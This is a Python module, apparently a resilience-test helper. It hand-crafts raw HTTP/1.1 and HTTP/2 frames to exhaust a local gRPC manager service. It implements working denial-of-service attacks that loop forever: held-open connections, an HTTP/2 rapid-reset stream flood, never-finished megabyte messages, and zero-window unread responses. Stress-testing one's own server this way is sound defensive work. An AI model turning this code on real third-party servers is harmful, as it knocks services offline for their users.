"""Attacks that no client library can be made to do: bytes of HTTP/1.1 and HTTP/2, sent by hand."""

from __future__ import annotations

import select
import socket
import struct
import time
from collections.abc import Iterator

ASK = b"GET /healthz HTTP/1.1\r\nHost:localhost\r\n\r\n"
LIST = b"/j10ce.v1alpha1.QoSProfileService/List"
CREATE = b"/j10ce.v1alpha1.QoSProfileService/Create"
LIST_POLICIES = b"/j10ce.v1alpha1.MinimalReservationPolicyService/List"
MESSAGE = 1_000_000
DATA, HEADERS, RESET, SETTINGS, PING, WINDOW = 0, 1, 3, 4, 6, 8
INITIAL_WINDOW = 4
ACK, END, END_HEADERS = 1, 1, 4
AT_ONCE = 50


def endless(port: int, sent: bytes, connections: int = 30) -> None:
    """Sends it on every connection, reads nothing, and opens those again that are closed. For ever."""
    kept: list[socket.socket] = []
    while True:
        kept = [one for one in kept if not is_closed(one)]
        kept += [begun(port, sent) for _ in range(connections - len(kept))]
        time.sleep(0.05)


def begun(port: int, sent: bytes) -> socket.socket:
    made = socket.create_connection(("127.0.0.1", port))
    made.setblocking(False)
    try:
        made.send(sent)
    except OSError:
        pass  # it is noticed by whoever looks whether it is closed
    return made


def is_closed(one: socket.socket) -> bool:
    """Whether the other end has closed it; what it said is read and forgotten."""
    try:
        return select.select([one], [], [], 0)[0] != [] and not one.recv(65536)
    except BlockingIOError:
        return False
    except OSError:
        return True


def resets(port: int) -> None:
    """Calls that are begun and given up, as fast as the connection carries them. For ever."""
    block = head(LIST)
    with socket.create_connection(("127.0.0.1", port)) as one:
        one.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b""))
        call = 1
        while True:
            answer(one)
            calls = range(call, call + 2 * AT_ONCE, 2)
            given_up = struct.pack(">I", 8)
            one.sendall(b"".join(frame(HEADERS, END_HEADERS, n, block) + frame(RESET, 0, n, given_up) for n in calls))
            call += 2 * AT_ONCE


def head(path: bytes, *more: tuple[bytes, bytes]) -> bytes:
    """Of a call, nothing of it compressed."""
    plain = (
        (b":path", path),
        (b":authority", b"localhost"),
        (b"te", b"trailers"),
        (b"content-type", b"application/grpc"),
    )
    return b"\x83\x86" + b"".join(b"\x00" + _text(name) + _text(value) for name, value in (*plain, *more))


def _text(value: bytes) -> bytes:
    """A length of 7 bits, or what is beyond them in a second byte."""
    return (bytes([len(value)]) if len(value) < 127 else bytes([127, len(value) - 127])) + value


def unfinished(port: int, token: str, calls: int = 64) -> None:
    """Messages of a megabyte that lack their last bytes, as many as are taken. For ever."""
    block = head(CREATE, (b"authorization", b"Bearer " + token.encode()))
    message = b"\0" + struct.pack(">I", MESSAGE) + b"x" * (MESSAGE - 10)
    left, windows, whole, first = {2 * n + 1: message for n in range(calls)}, {}, 65535, 65535
    with socket.create_connection(("127.0.0.1", port)) as one:
        one.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b""))
        one.sendall(b"".join(frame(HEADERS, END_HEADERS, n, block) for n in left))
        while True:
            for kind, stream, content in frames(one):
                if kind == WINDOW and not stream:
                    whole += int.from_bytes(content, "big")
                elif kind == WINDOW:
                    windows[stream] = windows.get(stream, 0) + int.from_bytes(content, "big")
                elif kind == SETTINGS:
                    given = {content[n + 1]: content[n + 2 : n + 6] for n in range(0, len(content), 6)}
                    first = int.from_bytes(given.get(INITIAL_WINDOW, struct.pack(">I", first)), "big")
            for n, rest in left.items():
                sent = len(message) - len(rest)
                piece = rest[: max(0, min(16_384, whole, first + windows.get(n, 0) - sent))]
                one.sendall(frame(DATA, 0, n, piece) if piece else b"")
                left[n], whole = rest[len(piece) :], whole - len(piece)


def unread(port: int, token: str, calls: int = 64) -> None:
    """Lists that are asked for, again every second, on a connection that takes nothing of any answer. For ever."""
    block, call = head(LIST_POLICIES, (b"authorization", b"Bearer " + token.encode())), 1
    with socket.create_connection(("127.0.0.1", port)) as one:
        nothing = struct.pack(">HI", INITIAL_WINDOW, 0)
        one.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, nothing))
        while True:
            for n in range(call, call + 2 * calls, 2):
                one.sendall(frame(HEADERS, END_HEADERS, n, block) + frame(DATA, END, n, bytes(5)))
            call, until = call + 2 * calls, time.monotonic() + 1
            while time.monotonic() < until:
                answer(one)
                time.sleep(0.01)


def answer(one: socket.socket) -> None:
    """What has to be answered for the connection to go on."""
    for _ in frames(one):
        pass


def frames(one: socket.socket) -> Iterator[tuple[int, int, bytes]]:
    """What has arrived: kind, stream and content; what has to be answered is."""
    while select.select([one], [], [], 0)[0]:
        header = exactly(one, 9)
        kind, flags, stream = header[3], header[4], int.from_bytes(header[5:9], "big")
        content = exactly(one, int.from_bytes(header[:3], "big"))
        if kind in (SETTINGS, PING) and not flags & ACK:
            one.sendall(frame(kind, ACK, 0, content if kind == PING else b""))
        yield kind, stream, content


def exactly(one: socket.socket, size: int) -> bytes:
    received = b""
    while len(received) < size:
        if not (more := one.recv(size - len(received))):
            raise ConnectionError("the manager has closed the connection")
        received += more
    return received


def frame(kind: int, flags: int, stream: int, content: bytes) -> bytes:
    return struct.pack(">I", len(content))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + content
